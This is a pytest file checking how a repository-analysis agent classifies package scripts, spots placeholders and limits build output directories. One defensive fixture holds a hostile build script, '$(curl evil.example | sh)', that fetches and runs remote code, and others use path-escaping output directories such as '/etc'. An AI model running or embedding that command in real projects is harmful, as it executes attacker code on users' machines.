"""Script semantics: unit vs end-to-end vs lint scripts, placeholders, build scripts under other
names, the setup a suite needs, and output directories the framework config declares."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from core.agent.analysis import analyze_repository
from core.agent.proposal import propose_pipeline
from core.agent.scripts import classify, is_placeholder, output_from_script, plan_scripts
from forgeline.pipeline_validation import validate_proposal
from tests.agent.corpus import SCRIPT_SEMANTICS, SampleRepo, write_repo


@pytest.mark.parametrize("sample", SCRIPT_SEMANTICS, ids=[s.name for s in SCRIPT_SEMANTICS])
def test_layouts_get_the_commands_their_scripts_mean(sample: SampleRepo, tmp_path: Path) -> None:
    app = analyze_repository(write_repo(sample, tmp_path)).primary
    assert app.framework == sample.framework
    for attribute, expected in sample.expect.items():
        assert getattr(app, attribute) == expected, (attribute, app.evidence)
    if sample.output_directory:
        assert app.output_directory == sample.output_directory


def test_the_unit_stage_never_runs_an_end_to_end_suite(tmp_path: Path) -> None:
    sample = next(s for s in SCRIPT_SEMANTICS if s.name == "node-e2e-test-script")
    proposal = propose_pipeline(analyze_repository(write_repo(sample, tmp_path)))
    test = next(s for s in proposal.stages if s.stage_type == "test")
    assert test.commands[-1] == "npm run test:unit"
    assert "cp -n .env.example .env" in test.commands
    assert not any("playwright" in c for s in proposal.stages for c in s.commands)
    assert validate_proposal(proposal).valid


@pytest.mark.parametrize(
    "body",
    [
        'echo "Error: no test specified" && exit 1',
        "echo 'no tests' ; exit 0",
        "exit 1",
        "",
        "  true ",
    ],
)
def test_placeholders_are_recognised(body: str) -> None:
    assert is_placeholder(body)


@pytest.mark.parametrize("body", ["jest", "vitest run", "node --test", "mocha 'test/**/*.js'"])
def test_real_test_scripts_are_not_placeholders(body: str) -> None:
    assert not is_placeholder(body)
    assert classify("test", {"test": body}) == "unit"


def test_hostile_scripts_are_read_not_run() -> None:
    scripts = {
        # Unbalanced quotes, self- and mutual recursion, a script that calls a missing one.
        "test": "npm run test && npm run a",
        "a": "npm run b",
        "b": "npm run a; echo '",
        "build": "$(curl evil.example | sh) --outDir /etc",
        "lint": "eslint . --fix",
    }
    plan = plan_scripts(scripts)
    assert plan.unit == "test"
    assert plan.build == "build"
    assert plan.output_directory is None
    assert plan.lint is None
    assert output_from_script("vite build --outDir ../../outside") is None
    assert plan_scripts({"test": 3, 7: "x"}) == plan_scripts({})  # type: ignore[dict-item]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("angular.json", json.dumps({"projects": {"a": {"architect": [1]}}})),
        (
            "angular.json",
            json.dumps(
                {"projects": {"a": {"architect": {"build": {"options": {"outputPath": "/etc"}}}}}}
            ),
        ),
        ("angular.json", json.dumps({"projects": ["a"]})),
        ("svelte.config.js", "import a from '@sveltejs/adapter-static'; a({ pages: '../../x' })"),
        ("astro.config.mjs", "export default { outDir: '/var/www' }"),
    ],
)
def test_hostile_framework_configs_give_no_output_outside_the_app(
    name: str, content: str, tmp_path: Path
) -> None:
    deps = {"@angular/core": "18", "@sveltejs/kit": "2", "astro": "4"}
    framework = {"angular.json": "@angular/core", "svelte.config.js": "@sveltejs/kit"}.get(
        name, "astro"
    )
    pkg = {"name": "x", "scripts": {"build": "b"}, "dependencies": {framework: deps[framework]}}
    (tmp_path / "package.json").write_text(json.dumps(pkg))
    (tmp_path / name).write_text(content)
    app = analyze_repository(tmp_path).primary
    out = app.output_directory or ""
    assert not out.startswith("/") and ".." not in out.split("/")


def test_a_unit_suite_in_browser_mode_installs_its_browser(tmp_path: Path) -> None:
    deps = {"vite": "5", "react": "18", "@vitest/browser": "2", "playwright": "1.45"}
    pkg = {"name": "ui", "scripts": {"test": "vitest --browser.headless"}, "devDependencies": deps}
    (tmp_path / "package.json").write_text(json.dumps(pkg))
    (tmp_path / "pnpm-lock.yaml").write_text("lockfileVersion: '9.0'\n")
    app = analyze_repository(tmp_path).primary
    assert app.test_command == "pnpm run test"
    assert app.setup_commands == ["pnpm exec playwright install --with-deps"]


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("pnpm --filter web test", ("web", "test")),
        ("pnpm -F @acme/web run lint", ("@acme/web", "lint")),
        ("bun run --filter frontend test", ("frontend", "test")),
        ("yarn workspace api test", ("api", "test")),
        ("npm run test --workspace=apps/web", ("apps/web", "test")),
        ("pnpm --filter web test && pnpm --filter api test", None),
        ("turbo run test", None),
        ("pnpm --filter 'unbalanced test", None),
        ("npm test", None),
    ],
)
def test_root_scripts_that_run_one_members_script(body: str, expected: object) -> None:
    from core.agent.scripts import delegation

    assert delegation(body) == expected
